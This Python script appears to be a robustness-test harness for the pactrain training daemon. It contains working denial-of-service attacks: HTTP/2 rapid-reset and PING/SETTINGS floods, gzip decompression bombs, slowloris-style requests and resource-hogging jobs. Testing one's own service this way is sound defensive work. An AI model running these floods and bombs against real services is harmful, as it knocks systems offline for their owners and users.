"""One attack on a daemon: attacker.py KIND WHERE PKI NAME.

KIND: one of ATTACKS, by somebody with a good certificate, or as a trainer of the node.
WHERE: HOST:PORT, or the agent's socket, unix:PATH. PKI: a folder with ca.pem, NAME.pem and
NAME.key (tools/certs). Prints "ready", runs until it is killed, and prints "round" after
each turn.
"""

from __future__ import annotations

import contextlib
import gzip
import importlib
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path

PATIENCE_SECONDS = 5.0
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, NO_KIND = 0, 1, 3, 4, 6, 0x77
END_HEADERS, END_STREAM, ACK = 4, 1, 1
METHOD_GET = b"\x82"  # In HPACK's table.
HEAD = 9  # Bytes of a frame's.
CANCEL = bytes([0, 0, 0, 8])
WAITING_JOBS = 100
SLOW_REQUESTS = 200
SLOT_ELEMENTS = 1 << 29  # 2 GiB, and as much for the result.
STREAMS_A_TURN = 14_800
BEATS = 20
BOMB = 10 << 20  # Of 10 KiB, which one frame carries.
RECORD = 16_000  # Bytes that TLS carries at once, or a little less.


@dataclass(frozen=True)
class Target:
    """Whom to attack, and as whom."""

    where: str
    pki: Path
    name: str

    def connect(self) -> ssl.SSLSocket:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.load_verify_locations(self.pki / "ca.pem")
        context.load_cert_chain(self.pki / f"{self.name}.pem", self.pki / f"{self.name}.key")
        context.set_alpn_protocols(["h2"])
        return context.wrap_socket(self.connect_plainly())

    def connect_plainly(self) -> socket.socket:
        host, port = self.where.rsplit(":", 1)
        return socket.create_connection((host, int(port)), PATIENCE_SECONDS)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2."""
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
    return head + payload


def call(path: str, **more: str) -> bytes:
    """The fields of a call, in HPACK: literals that enter no table."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "x",
        "te": "trailers",
        "content-type": "application/grpc",
        **{name.replace("_", "-"): value for name, value in more.items()},
    }
    return b"".join(
        bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in fields.items()
    )


def message(fields: Mapping[int, int | bytes]) -> bytes:
    """A message of protobuf; numbers below 128, bytes of at most 127."""
    return b"".join(
        bytes([number << 3, value])
        if isinstance(value, int)
        else bytes([number << 3 | 2, len(value)]) + value
        for number, value in fields.items()
    )


def framed(words: bytes) -> bytes:
    """As gRPC carries a message."""
    return bytes(1) + len(words).to_bytes(4, "big") + words


def hello_of(agent: str) -> bytes:
    """What an agent says first."""
    hello = {1: agent.encode(), 2: bytes(range(16)), 3: b"site-x", 4: b"127.0.0.1:1", 5: b"1"}
    return framed(message({1: message(hello)}))


def joined(job: str) -> bytes:
    """Rank 0 of two, of whom the other never comes."""
    attach_id = (job + "." * 16)[-16:].encode()
    trainer: dict[int, int | bytes] = {
        2: 2,
        3: attach_id,
        4: b"l",
        5: bytes(range(16)),
        6: b"m",
        7: 9,
    }
    group = message({1: job.encode()})
    return framed(message({3: message({1: group, 2: message(trainer)})}))


def talk(target: Target, speak: Callable[[ssl.SSLSocket], None]) -> None:
    """HTTP/2 on one connection, until the other side has enough of it."""
    with (
        contextlib.suppress(ConnectionError, ssl.SSLError, TimeoutError),
        target.connect() as connection,
    ):
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
        speak(connection)


def flood(target: Target, parts: Iterator[bytes]) -> None:
    """Sends all of it on one connection, or as much as the other side takes."""

    def speak(connection: ssl.SSLSocket) -> None:
        for part in parts:
            connection.sendall(part)

    talk(target, speak)


def in_pieces(frames: Iterator[bytes], count: int = 2_000) -> Iterator[bytes]:
    piece: list[bytes] = []
    for each in frames:
        piece.append(each)
        if len(piece) == count:
            yield b"".join(piece)
            piece = []
    yield b"".join(piece)


def rapid_reset(target: Target) -> None:
    """Calls that are taken back at once."""
    fields = call("/pactrain.v1.Coordinator/AgentStream")
    hello = hello_of(target.name.removeprefix("agent-"))
    flood(
        target,
        in_pieces(
            frame(HEADERS, END_HEADERS, stream, fields)
            + frame(DATA, 0, stream, hello)
            + frame(RESET, 0, stream, CANCEL)
            for stream in range(1, 2 * STREAMS_A_TURN, 2)
        ),
    )


def no_calls(target: Target) -> None:
    """Streams whose headers are refused before they are calls."""
    flood(
        target,
        in_pieces(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, METHOD_GET)
            + frame(RESET, 0, stream, CANCEL)
            for stream in range(1, 2 * STREAMS_A_TURN, 2)
        ),
    )


def bombs(target: Target) -> None:
    """Messages that are large once they are unpacked."""
    fields = call("/pactrain.v1.Admin/ListJobs", grpc_encoding="gzip")
    packed = gzip.compress(bytes(BOMB))
    words = bytes([1]) + len(packed).to_bytes(4, "big") + packed
    flood(
        target,
        (
            frame(HEADERS, END_HEADERS, stream, fields) + frame(DATA, END_STREAM, stream, words)
            for stream in range(1, 2 * STREAMS_A_TURN, 2)
        ),
    )


def endless(target: Target, each: bytes, answers: bool) -> None:
    """The same frame for as long as it is taken; who leaves answers unread is not read from."""
    piece = each * (RECORD // len(each))

    def speak(connection: ssl.SSLSocket) -> None:
        while True:
            connection.sendall(piece)
            left = len(piece) if answers else 0
            while left > 0:
                got = connection.recv(1 << 16)
                if not got:
                    return
                left -= len(got)

    talk(target, speak)


def pings(target: Target) -> None:
    endless(target, frame(PING, 0, 0, bytes(8)), answers=True)


def settings(target: Target) -> None:
    endless(target, frame(SETTINGS, 0, 0), answers=True)


def no_frames(target: Target) -> None:
    """Frames of a kind that nobody knows."""
    endless(target, frame(NO_KIND, 0, 0), answers=False)


def beat() -> bytes:
    """What an agent says each second."""
    return frame(DATA, 0, 1, framed(message({2: b""})))


def agent_stream(target: Target) -> bytes:
    """Opens it, and says hello."""
    fields = call("/pactrain.v1.Coordinator/AgentStream")
    hello = hello_of(target.name.removeprefix("agent-"))
    return frame(HEADERS, END_HEADERS, 1, fields) + frame(DATA, 0, 1, hello)


def messages(target: Target) -> None:
    """An agent's heartbeats without an end, no faster than they are read."""

    def speak(connection: ssl.SSLSocket) -> None:
        connection.sendall(agent_stream(target))
        while True:
            connection.sendall(BEATS * beat() + frame(PING, 0, 0, bytes(8)))
            if not connection.recv(1 << 16):
                return

    talk(target, speak)


def hold(connection: ssl.SSLSocket) -> None:
    """Keeps an agent's stream: answers pings, and says each second that it lives."""
    connection.settimeout(1.0)
    got = b""
    while True:
        with contextlib.suppress(TimeoutError):
            part = connection.recv(1 << 16)
            if not part:
                return
            got += part
        while len(got) >= HEAD and len(got) >= HEAD + int.from_bytes(got[:3], "big"):
            end = HEAD + int.from_bytes(got[:3], "big")
            if got[3] == PING and not got[4] & ACK:
                connection.sendall(frame(PING, ACK, 0, got[HEAD:end]))
            got = got[end:]
        connection.sendall(beat())


def waiting_jobs(target: Target) -> None:
    """As many jobs as a coordinator serves, each waiting for a rank that never comes."""

    def speak(connection: ssl.SSLSocket) -> None:
        connection.sendall(agent_stream(target))
        for number in range(WAITING_JOBS):
            connection.sendall(frame(DATA, 0, 1, joined(f"hog-{number}")))
        say_round()
        hold(connection)

    talk(target, speak)


def slow_requests(target: Target) -> None:
    """Requests that never come to their end."""
    with contextlib.ExitStack() as stack, contextlib.suppress(ConnectionError, TimeoutError):
        connections = [stack.enter_context(target.connect_plainly()) for _ in range(SLOW_REQUESTS)]
        for connection in connections:
            connection.sendall(b"GET /metrics HTTP/1.1\r\n")
        say_round()
        while True:
            time.sleep(1.0)
            for connection in connections:
                connection.sendall(b"X: y\r\n")


def large_slot(target: Target) -> None:
    """A trainer of a large model that comes and goes."""
    from pactrain._library import NativeSession
    from pactrain.errors import PacTrainError
    from pactrain.types import AttachOptions, Digest

    options = AttachOptions(
        agent=target.where,
        job="large",
        site="",
        launch="large",
        rank=0,
        world_size=2,
        model=0,
        model_digest=Digest(1, 2),
        model_summary="large",
        elements=SLOT_ELEMENTS,
        slot_bytes=4 * SLOT_ELEMENTS,
        resume_step=0,
        attach_timeout_ms=100,
        gse=False,
    )
    with contextlib.suppress(PacTrainError):
        NativeSession.attach(options, lambda text: None)


def handshakes(target: Target) -> None:
    """A connection, and the next one."""

    def speak(connection: ssl.SSLSocket) -> None:
        connection.recv(1)

    talk(target, speak)


ATTACKS: dict[str, Callable[[Target], None]] = {
    "rapid-reset": rapid_reset,
    "no-calls": no_calls,
    "pings": pings,
    "settings": settings,
    "no-frames": no_frames,
    "messages": messages,
    "bombs": bombs,
    "handshakes": handshakes,
    "waiting-jobs": waiting_jobs,
    "slow-requests": slow_requests,
    "large-slot": large_slot,
}


def say_round() -> None:
    print("round", flush=True)


def main() -> None:
    kind, where, pki, name = sys.argv[1:]
    target = Target(where, Path(pki), name)
    if kind == "large-slot":  # It takes seconds, and is no part of the attack.
        importlib.import_module("pactrain._library")
    print("ready", flush=True)
    while True:
        ATTACKS[kind](target)
        say_round()


if __name__ == "__main__":
    main()
